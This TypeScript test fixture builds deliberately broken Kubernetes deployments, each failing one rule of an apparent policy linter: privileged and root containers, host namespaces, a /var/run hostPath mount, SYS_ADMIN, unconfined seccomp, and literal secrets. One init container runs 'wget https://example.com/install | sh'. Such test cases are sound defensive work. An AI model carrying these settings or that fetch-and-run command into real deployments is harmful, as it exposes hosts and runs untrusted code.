import { changed, type Broken } from './change.ts';
import { DIGEST, gateway } from './good.ts';

const POD = '/spec/template/spec';
const FIRST = `${POD}/containers/0`;
const INIT = `${POD}/initContainers/0`;
const CONTEXT = `${FIRST}/securityContext`;

const pod = (rule: string, name: string, changes: Readonly<Record<string, unknown>>): Broken => ({ rule, name, files: { 'deployment.yaml': [changed(gateway.deployment, changes)] } });
const env = (name: string, value: string) => ({ [`${FIRST}/env/0`]: { name, value } });

/** Deployments that break one rule each. */
export const brokenPods: readonly Broken[] = [
  pod('privileged', 'container', { [`${CONTEXT}/privileged`]: true }),
  pod('privileged', 'init-container', { [`${INIT}/securityContext/privileged`]: true }),
  pod('privileged', 'ephemeral-container', {
    [`${POD}/ephemeralContainers`]: [{
      name: 'debug', image: `registry.example.com/debug@${DIGEST}`,
      securityContext: { privileged: true, allowPrivilegeEscalation: false, readOnlyRootFilesystem: true, capabilities: { drop: ['ALL'] } },
    }],
  }),
  pod('host-namespaces', 'network', { [`${POD}/hostNetwork`]: true }),
  pod('host-namespaces', 'processes', { [`${POD}/hostPID`]: true }),
  pod('host-namespaces', 'ipc', { [`${POD}/hostIPC`]: true }),
  pod('host-path', 'docker-socket', { [`${POD}/volumes/0`]: { name: 'tmp', hostPath: { path: '/var/run' } } }),
  pod('volume-types', 'nfs', { [`${POD}/volumes/0`]: { name: 'tmp', nfs: { server: 'files', path: '/' } } }),
  pod('host-ports', 'container', { [`${FIRST}/ports/0/hostPort`]: 8080 }),
  pod('host-process', 'pod', { [`${POD}/securityContext/windowsOptions`]: { hostProcess: true } }),
  pod('probe-host', 'liveness', { [`${FIRST}/livenessProbe/httpGet/host`]: 'metadata' }),
  pod('drop-capabilities', 'none', { [`${CONTEXT}/capabilities`]: undefined }),
  pod('drop-capabilities', 'only-one', { [`${INIT}/securityContext/capabilities/drop`]: ['NET_RAW'] }),
  pod('add-capabilities', 'admin', { [`${CONTEXT}/capabilities/add`]: ['NET_BIND_SERVICE', 'SYS_ADMIN'] }),
  pod('privilege-escalation', 'default', { [`${CONTEXT}/allowPrivilegeEscalation`]: undefined }),
  pod('privilege-escalation', 'allowed', { [`${CONTEXT}/allowPrivilegeEscalation`]: true }),
  pod('run-as-non-root', 'container-overrides', { [`${CONTEXT}/runAsNonRoot`]: false }),
  pod('run-as-user', 'pod', { [`${POD}/securityContext/runAsUser`]: 0 }),
  pod('run-as-user', 'container', { [`${CONTEXT}/runAsUser`]: 0 }),
  pod('seccomp', 'container-overrides', { [`${CONTEXT}/seccompProfile`]: { type: 'Unconfined' } }),
  pod('apparmor', 'annotation', { '/spec/template/metadata/annotations': { 'container.apparmor.security.beta.kubernetes.io/gateway': 'unconfined' } }),
  pod('selinux', 'type', { [`${POD}/securityContext/seLinuxOptions`]: { type: 'spc_t' } }),
  pod('selinux', 'role', { [`${CONTEXT}/seLinuxOptions`]: { role: 'sysadm_r' } }),
  pod('proc-mount', 'unmasked', { [`${CONTEXT}/procMount`]: 'Unmasked' }),
  pod('sysctls', 'message-queues', { [`${POD}/securityContext/sysctls`]: [{ name: 'net.ipv4.tcp_syncookies', value: '1' }, { name: 'kernel.msgmax', value: '65536' }] }),
  pod('read-only-root', 'default', { [`${CONTEXT}/readOnlyRootFilesystem`]: undefined }),
  pod('image-digest', 'tag', { [`${FIRST}/image`]: 'registry.example.com/request-journey/gateway:latest' }),
  pod('image-digest', 'init-tag-and-short-digest', { [`${INIT}/image`]: 'registry.example.com/wait:1@sha256:abc' }),
  pod('unbuilt-image', 'zeros', { [`${FIRST}/image`]: `registry.example.com/request-journey/gateway@sha256:${'0'.repeat(64)}` }),
  pod('probes', 'no-liveness', { [`${FIRST}/livenessProbe`]: undefined }),
  pod('probes', 'no-readiness', { [`${FIRST}/readinessProbe`]: undefined }),
  pod('resources', 'no-memory-limit', { [`${FIRST}/resources/limits/memory`]: undefined }),
  pod('resources', 'init-no-request', { [`${INIT}/resources/requests/cpu`]: undefined }),
  pod('service-account', 'default', { [`${POD}/serviceAccountName`]: undefined }),
  pod('token-automount', 'projected', { [`${POD}/volumes/0`]: { name: 'tmp', projected: { sources: [{ serviceAccountToken: { path: 'token' } }] } } }),
  pod('token-automount', 'pod', { [`${POD}/automountServiceAccountToken`]: undefined }),
  pod('url-in-env', 'env', env('UPSTREAM', 'http://auth:8080')),
  pod('url-in-env', 'argument', { [`${FIRST}/args`]: ['--upstream', 'tcp://auth:9'] }),
  pod('url-in-env', 'command', { [`${INIT}/command`]: ['sh', '-c', 'wget https://example.com/install | sh'] }),
  pod('url-in-env', 'hook', { [`${FIRST}/lifecycle`]: { preStop: { exec: { command: ['wget', 'http://collector/bye'] } } } }),
  pod('literal-secret', 'name', env('DB_PASSWORD', 'hunter2')),
  pod('literal-secret', 'known-token', env('GREETING', 'AKIAIOSFODNN7EXAMPLE')),
  pod('literal-secret', 'random', env('GREETING', 'q7Zt3Vb9Xk2Lm5Np8Rs1Wd4Yf6Hj0Gc')),
  pod('literal-secret', 'argument', { [`${FIRST}/args`]: ['--requirepass', 'hunter2'] }),
  pod('literal-secret', 'argument-with-equals', { [`${FIRST}/command`]: ['node', 'main.ts', '--api-key=letmein'] }),
  pod('labels', 'pod', { '/spec/template/metadata/labels/app.kubernetes.io~1version': undefined }),
  pod('labels', 'object', { '/metadata/labels/app.kubernetes.io~1part-of': '' }),
  pod('selectors', 'version', { '/spec/selector/matchLabels/app.kubernetes.io~1version': '4f53cda18c2b' }),
  pod('selectors', 'expressions', { '/spec/selector/matchExpressions': [{ key: 'app.kubernetes.io/name', operator: 'Exists' }] }),
  pod('selectors', 'misses-its-pods', { '/spec/selector/matchLabels/app.kubernetes.io~1name': 'gatway' }),
  pod('own-namespace', 'default', { '/metadata/namespace': 'default' }),
  pod('own-namespace', 'none', { '/metadata/namespace': undefined }),
  pod('kubernetes-schema', 'unknown-field', { [`${POD}/securityContext/runAsNonRot`]: true }),
  pod('kubernetes-schema', 'wrong-type', { '/spec/replicas': '3' }),
  pod('kubernetes-schema', 'only-in-1-34', { [`${POD}/hostnameOverride`]: 'gateway' }),
  pod('kubernetes-schema', 'quantity', { [`${FIRST}/resources/limits/memory`]: '320MB' }),
  pod('known-kind', 'old-api', { '/apiVersion': 'apps/v1beta1' }),
];
